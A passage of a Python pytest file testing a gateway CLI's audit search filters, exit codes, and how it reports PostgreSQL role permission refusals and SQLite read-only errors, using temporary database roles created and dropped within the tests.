    config = write_config(tmp_path, db_url)
    code, out, _ = run(capsys, "audit", "search", *args, "--format", "json", "--config", config)
    assert code == 0
    assert [json.loads(line)["id"] for line in out.splitlines()] == expected


@pytest.mark.parametrize(("args", "listed"), [
    (["--type", "nhs_number"], "uk_nhs_number"),
    (["--type", "nhs*"], "special_category"),
    (["--reason", "encrypted"], "unencrypted_attachment"),
    (["--reason", "not_authorised"], "missing_purpose"),
])
def test_an_unknown_type_or_reason_exits_2_naming_the_known_ones(config, capsys, args, listed):
    with pytest.raises(SystemExit) as exited:
        main(["audit", "search", *args, "--config", config])
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert f"unknown {args[0][2:]}" in err and listed in err


@pytest.mark.parametrize(("args", "expected"), [
    (["--type", "UK_NHS_NUMBER", "--since", "30d"], ["cli-confirmed"]),
    (["--type", "special*"], ["cli-rejected"]),
    (["--reason", "*ENCRYPTED*", "--since", "30d"], ["cli-rejected", "cli-confirmed"]),
])
def test_a_type_or_reason_in_any_case_or_with_a_wildcard_is_taken(config, capsys, args,
                                                                    expected):
    code, out, _ = run(capsys, "audit", "search", *args, "--format", "json", "--config", config)
    assert code == 0
    assert [json.loads(line)["id"] for line in out.splitlines()] == expected


@pytest.mark.postgres
def test_checkpoint_as_the_auditors_role_is_refused_as_a_permission(config, db_url, capsys):
    """gateway_auditor only reads the trail: its checkpoint is refused by
    the database's grants, which is not the database being unavailable."""
    if not db_url.startswith("postgresql"):
        pytest.skip("roles are PostgreSQL's")
    from sqlalchemy.engine import make_url

    login = f"gw_auditor_{secrets.token_hex(4)}"
    asyncio.run(_as_admin(db_url, f"CREATE ROLE {login} LOGIN IN ROLE gateway_auditor"))
    try:
        auditor = make_url(db_url).set(username=login).render_as_string(hide_password=False)
        as_auditor = write_config(Path(config).parent, auditor)
        code, out, _ = run(capsys, "audit", "search", "--format", "json", "--config", as_auditor)
        assert code == 0 and len(out.splitlines()) == 3  # it reads
        with pytest.raises(SystemExit) as exited:
            main(["audit", "checkpoint", "--config", as_auditor])
        assert exited.value.code == 1
        out, err = capsys.readouterr()
        assert out == ""
        assert err.startswith("error: audit checkpoint needs a database role allowed to "
                              "write audit_checkpoints")
        assert "[database] url" not in err
    finally:
        asyncio.run(_as_admin(db_url, f"DROP ROLE {login}"))


@pytest.mark.postgres
@pytest.mark.parametrize("argv", [("queue", "list"), ("held", "list"), ("passwords", "list")])
def test_the_auditors_role_refused_the_queue_is_told_so_not_an_outage(
    config, db_url, capsys, argv
):
    """gateway_auditor may not read the queue, held messages or passwords:
    a refusal the database gave (exit 1, saying which role can), not the
    database unavailable (75, which a cron job would retry for ever)."""
    if not db_url.startswith("postgresql"):
        pytest.skip("roles are PostgreSQL's")
    from sqlalchemy.engine import make_url

    login = f"gw_auditor_{secrets.token_hex(4)}"
    asyncio.run(_as_admin(db_url, f"CREATE ROLE {login} LOGIN IN ROLE gateway_auditor"))
    try:
        auditor = make_url(db_url).set(username=login).render_as_string(hide_password=False)
        as_auditor = write_config(Path(config).parent, auditor)
        with pytest.raises(SystemExit) as exited:
            main([*argv, "--config", as_auditor])
        assert exited.value.code == 1
        out, err = capsys.readouterr()
        assert out == ""
        assert err.startswith("error: the database refused this command to its role")
        assert "gateway_app" in err and len(err.splitlines()) == 1
    finally:
        asyncio.run(_as_admin(db_url, f"DROP ROLE {login}"))


def test_a_database_that_cannot_be_opened_is_said_to_need_a_writable_folder() -> None:
    """SQLite's "unable to open database file" (a snapshot on read-only
    media: WAL needs its -shm beside the file even to read) names why."""
    import sqlite3

    from sqlalchemy.exc import OperationalError

    from gateway.cli.common import database_unavailable

    exc = OperationalError("SELECT 1", {}, sqlite3.OperationalError(
        "unable to open database file"))
    words = database_unavailable(exc)
    assert words.startswith("error: the database could not be used (OperationalError: "
                            "unable to open database file)")
    assert "copy a read-only snapshot to a writable folder" in words
    assert "SELECT" not in words


async def _as_admin(url: str, statement: str) -> None:
    engine = create_engine(url)
    try:
        async with engine.begin() as conn:
            await conn.execute(text(statement))
    finally:
        await engine.dispose()
